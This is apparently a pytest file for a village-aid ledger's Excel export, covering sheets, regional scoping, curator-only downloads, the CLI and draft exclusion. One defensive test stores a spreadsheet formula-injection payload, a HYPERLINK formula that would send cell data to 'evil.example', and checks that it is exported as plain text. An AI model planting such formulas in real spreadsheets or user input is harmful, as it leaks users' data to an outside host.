"""台账 exports: the workbook opens in openpyxl with the right rows; only the region's; a job with
progress; the CLI; only the curator who asked downloads it."""
import io
import re
from decimal import Decimal

import openpyxl
import pytest

from tests import factories
from tests.conftest import login, post_form
from tests.pledges.builders import D, P, World, bring, delivery_in
from villageaid.extensions import db
from villageaid.ledger import export
from villageaid.ledger.models import LedgerExport


@pytest.fixture
def world(any_app):
    world = World()
    bring(world, world.pledge(quantity=1_234_500), P.VERIFIED)                  # ¥12,345.00 verified
    delivery_in(world, D.DISPUTED, world.pledge(quantity=500_000, org=False, anonymous=True))
    return world


def _sheets(path_or_bytes):
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    book = openpyxl.load_workbook(source, read_only=True)
    try:
        return {name: [list(row) for row in book[name].iter_rows(values_only=True)] for name in book.sheetnames}
    finally:
        book.close()


def test_the_workbook_has_every_row_with_chinese_headers(world, tmp_path):
    path = tmp_path / "ledger.xlsx"
    written = export.write(path, factories.SICHUAN)
    sheets = _sheets(path)
    assert list(sheets) == ["需求", "认捐", "交付"]
    needs, pledges, deliveries = sheets["需求"], sheets["认捐"], sheets["交付"]
    assert needs[0] == export.NEED_HEADERS and pledges[0] == export.PLEDGE_HEADERS
    assert deliveries[0] == export.DELIVERY_HEADERS
    assert written == (len(needs) - 1) + (len(pledges) - 1) + (len(deliveries) - 1) == 2 + 2 + 2
    verified = next(row for row in pledges[1:] if row[11] == "已核实")
    assert Decimal(str(verified[6])) == Decimal("12345.00") and verified[7] == "元" and verified[5] == "企业或社会组织"
    anonymous = next(row for row in pledges[1:] if row[5] == "个人")
    assert anonymous[4].endswith("（匿名认捐）")
    assert len({row[6] for row in deliveries[1:]}) == 2 and "已核实" in {row[6] for row in deliveries[1:]}
    assert sum(Decimal(str(row[10])) for row in needs[1:]) == Decimal("12345.00")  # 已核实 = verified deliveries


def test_another_region_gets_none_of_these_rows(world, tmp_path):
    path = tmp_path / "guizhou.xlsx"
    assert export.write(path, "520000000000") == 0
    assert all(len(rows) == 1 for rows in _sheets(path).values())  # headers only


def test_a_curator_asks_follows_and_downloads(world, any_app):
    client = any_app.test_client()
    login(client, world.curator.email)
    page = client.get("/curate/ledger/export").get_data(as_text=True)
    assert "四川省" in page
    response = post_form(client, "/curate/ledger/export", {"region": factories.SICHUAN})
    assert response.status_code == 302
    export_id = int(re.search(r"/curate/ledger/export/(\d+)", response.headers["Location"]).group(1))
    run = db.session.get(LedgerExport, export_id)
    assert run.status == "done" and run.written_rows == run.total_rows == 6  # in-process job ran at commit
    progress = client.get(f"/curate/ledger/export/{export_id}/progress").get_json()
    assert progress == {"status": "done", "finished": True, "total": 6, "checked": 6}
    assert "下载 XLSX" in client.get(f"/curate/ledger/export/{export_id}").get_data(as_text=True)
    download = client.get(f"/curate/ledger/export/{export_id}/download")
    assert download.status_code == 200 and download.mimetype == export.MIMETYPE
    assert len(_sheets(download.data)["认捐"]) == 3
    download.close()

    other = any_app.test_client()  # a curator of another province: neither the region nor this file
    guizhou = factories.curator("520000000000")
    login(other, guizhou.email)
    assert other.get(f"/curate/ledger/export/{export_id}/download").status_code == 403
    refused = post_form(other, "/curate/ledger/export", {"region": factories.SICHUAN})
    assert refused.status_code == 200 and db.session.query(LedgerExport).count() == 1
    donor = any_app.test_client()
    login(donor, world.donor.email)
    assert donor.get("/curate/ledger/export").status_code == 403


def test_the_cli_writes_the_workbook(world, any_app, tmp_path):
    out = tmp_path / "cli.xlsx"
    result = any_app.test_cli_runner().invoke(args=["ledger", "export", "--out", str(out), "--region", "四川省"])
    assert result.exit_code == 0, result.output
    assert "2 needs, 2 pledges and 2 deliveries" in result.output
    assert len(_sheets(out)["需求"]) == 3
    bad = any_app.test_cli_runner().invoke(args=["ledger", "export", "--out", str(out), "--region", "火星"])
    assert bad.exit_code != 0


def test_drafts_stay_the_villages_own(world, tmp_path):
    from tests.needs.builders import S

    world.need(S.DRAFT, title="还在起草的需求标题")
    path = tmp_path / "ledger.xlsx"
    export.write(path, factories.SICHUAN)
    assert all(row[1] != "还在起草的需求标题" for row in _sheets(path)["需求"])
    assert export.counts(factories.SICHUAN)[0] == 2


def test_user_text_that_looks_like_a_formula_stays_text(world, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    pledge = world.pledge(quantity=100_000)
    bring(world, pledge, P.ACCEPTED)
    world.deliver(pledge, note=formula)
    path = tmp_path / "ledger.xlsx"
    export.write(path, factories.SICHUAN)
    book = openpyxl.load_workbook(path)
    cells = [cell for row in book["交付"].iter_rows() for cell in row if cell.value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)  # a string, never a formula
